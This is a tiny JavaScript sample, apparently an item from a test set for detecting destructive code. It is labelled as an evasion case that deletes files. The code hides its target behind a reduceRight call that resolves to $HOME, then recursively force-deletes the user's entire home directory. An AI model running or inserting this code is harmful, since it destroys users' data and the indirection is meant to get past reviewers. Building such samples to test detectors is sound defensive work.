// evasion: reduceRight with a block-bodied reducer that returns its accumulator, seeded with $HOME; the result is deleted
// grade: very hard; does: delete
const fsp = require("fs/promises");
const segments = ["", ""];
const target = segments.reduceRight((acc, seg) => {
  if (!seg) return acc;
  return `${acc}/${seg}`;
}, process.env.HOME);
fsp.rm(target, { recursive: true, force: true });
